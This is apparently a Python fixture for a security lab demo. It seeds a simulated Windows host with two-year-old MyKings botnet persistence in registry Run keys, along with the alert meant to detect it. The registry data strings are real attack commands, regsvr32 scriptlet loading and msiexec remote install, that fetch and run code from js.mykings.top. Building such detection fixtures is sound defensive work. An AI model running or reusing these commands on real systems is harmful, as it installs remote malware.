"""The MyKings demo: a lab host with two-year-old Run-key persistence, and the alert that finds it."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from actions.lab import ConnectionSeed, HostSeed, RegistryValueSeed

DEMO_TENANT = "demo"
DEMO_HOST = "WS-FINANCE-07"
RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
_WRITTEN = datetime(2017, 7, 23, 3, 14, tzinfo=UTC)  # the bot lived there about two years


def mykings_alert() -> dict[str, Any]:
    """The OCSF Detection Finding the demo sends (tenant ``demo``)."""
    document: dict[str, Any] = json.loads(
        (Path(__file__).parent / "mykings-alert.json").read_text(encoding="utf-8")
    )
    return document


def mykings_host(tenant: str = DEMO_TENANT) -> HostSeed:
    return HostSeed(
        tenant=tenant,
        hostname=DEMO_HOST,
        registry_values=[
            RegistryValueSeed(
                key=RUN_KEY,
                name="start",
                data="regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll",
                written_at=_WRITTEN,
            ),
            RegistryValueSeed(
                key=RUN_KEY,
                name="start1",
                data="msiexec.exe /i http://js.mykings.top:280/helloworld.msi /q",
                written_at=_WRITTEN,
            ),
            RegistryValueSeed(
                key=RUN_KEY, name="SecurityHealth", data=r"%windir%\system32\SecurityHealthSystray.exe"
            ),
            RegistryValueSeed(
                key=r"HKLM\SOFTWARE\Microsoft\Shared Tools\MSConfig\startupreg",
                name="start",
                data="regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll",
                written_at=_WRITTEN,
            ),
        ],
        connections=[
            ConnectionSeed(remote="js.mykings.top", port=280, process="regsvr32.exe"),
            ConnectionSeed(remote="js.mykings.top", port=280, process="msiexec.exe"),
        ],
    )
